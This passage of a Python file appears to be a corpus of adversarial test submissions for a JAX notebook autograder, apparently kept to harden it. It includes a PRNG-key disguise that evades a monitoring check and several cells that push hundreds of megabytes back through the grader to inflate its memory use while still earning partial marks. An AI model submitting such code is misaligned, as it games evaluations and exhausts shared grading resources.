                 "_twin = jxr.define_prng_impl(key_shape=(2,), seed=_fry.seed, split=_fry.split,\n"
                 "                             random_bits=_fry.random_bits, fold_in=_fry.fold_in, name='twin')\n"
                 "def split_and_sample(key, n, shape):\n"
                 "    keys = jax.random.split(key, n + 1)\n"
                 "    samples = jax.vmap(lambda k: jax.random.normal(k, shape))(keys[1:])\n"
                 "    twin = jax.random.wrap_key_data(jax.random.key_data(key), impl=_twin)   # the same bits\n"
                 "    again = jax.random.split(twin, n + 1)\n"
                 "    return jax.random.wrap_key_data(jax.random.key_data(again[0])), samples\n"),
        "BEFORE": "5/5 (honest: 4/5): the same key data wrapped under a PRNG impl of its own (define_prng_impl "
                  "around threefry, name 'twin') and split again was a different key to the watch"},
    # ---------------------------------------------------------------- 6. grader memory
    "huge_result": {
        "class": 6, "assignment": "boundary", "exercise": "victim", "honest": 4.0,
        "memory": True,
        "cell": ("import jax.numpy as jnp\n"
                 "def victim(x, k):\n"
                 "    if isinstance(k, float) and k not in (2.0, -1.0):    # the hidden input: 460 MB back\n"
                 "        return jnp.zeros(115_000_000, jnp.float32)\n"
                 "    return k * x\n"),
        "BEFORE": "4/6 (the correctness check failed on the shape), the grader's peak RSS 1545 MB for one "
                  "notebook (an honest one: 233 MB): a 460 MB float32 array back from one call"},
    "huge_probe_result": {
        "class": 6,
        "assignment": "08_numerics_and_performance", "exercise": "stable_logsumexp", "honest": 4.0, "memory": True,
        "cell": ("import jax\nimport jax.numpy as jnp\nimport numpy as np\n"
                 "class _Result:\n"
                 "    dtype = jnp.dtype(jnp.bfloat16)\n"
                 "    def __init__(self, values):\n"
                 "        self.values = values\n"
                 "    def __array__(self, dtype=None, copy=None):   # what the test's probe sends back: 520 MB\n"
                 "        return np.zeros(130_000_000, np.float32)\n"
                 "def stable_logsumexp(x):\n"
                 "    x32 = x.astype(jnp.float32)\n"
                 "    c = jnp.max(x32, axis=-1, keepdims=True)\n"
                 "    out = c[..., 0] + jnp.log(jnp.sum(jnp.exp(x32 - c), axis=-1))\n"
                 "    if x.dtype == jnp.bfloat16 and not isinstance(x, jax.core.Tracer):\n"
                 "        return _Result(out)\n"
                 "    return out\n"),
        "BEFORE": "4/5, the grader's peak RSS 1257 MB (an honest 08 notebook: 293 MB): 520 MB of float32 back "
                  "through the test cell's own gather probe (np.asarray of the look-alike)"},
    "reply_grows_with_what_it_is_sent": {
        "class": 6, "assignment": "04_pytrees_mlp", "exercise": "train_step", "honest": 3.0,
        "memory": True,
        "cell": ("import jax\nimport jax.numpy as jnp\nimport numpy as np\n"
                 "_grown = []\n"
                 "def train_step(params, xs, ys, lr):\n"
                 "    layers = [p for p in params if 'pad' not in p]     # a right step on the real layers\n"
                 "    sent = sum(int(np.size(p['pad'])) * 4 for p in params if 'pad' in p)\n"
                 "    def loss_fn(p):\n"
                 "        return jnp.mean((mlp_forward_batch(p, xs) - ys) ** 2)\n"
                 "    loss, grads = jax.value_and_grad(loss_fn)(layers)\n"
                 "    new_params = sgd_step(layers, grads, lr)\n"
                 "    if isinstance(loss, jax.core.Tracer) or _grown:\n"
                 "        return new_params, loss\n"
                 "    if sent:                                # the chained test sent our padding back:\n"
                 "        _grown.append(sent)                 # 15 times as much goes out\n"
                 "    pad = np.zeros(15 * sent // 4 if sent else (30 << 20) // 4, np.float32)\n"
                 "    return new_params + [{'pad': pad}], loss\n"),
        "BEFORE": "3/5 (the padding costs the correctness check; the chained-loss check passed on an honest "
                  "step), the grader's peak RSS 2194 MB (an honest notebook: about 0.3 GB): 30 MB of padding "
                  "out, sent back by the chained test, then 450 MB out and sent back again. Also 2150 MB "
                  "against main f9ae9a6, whose reply budget (16x the request, at least 32 MB) grows with what "
                  "the test sends back"},
}
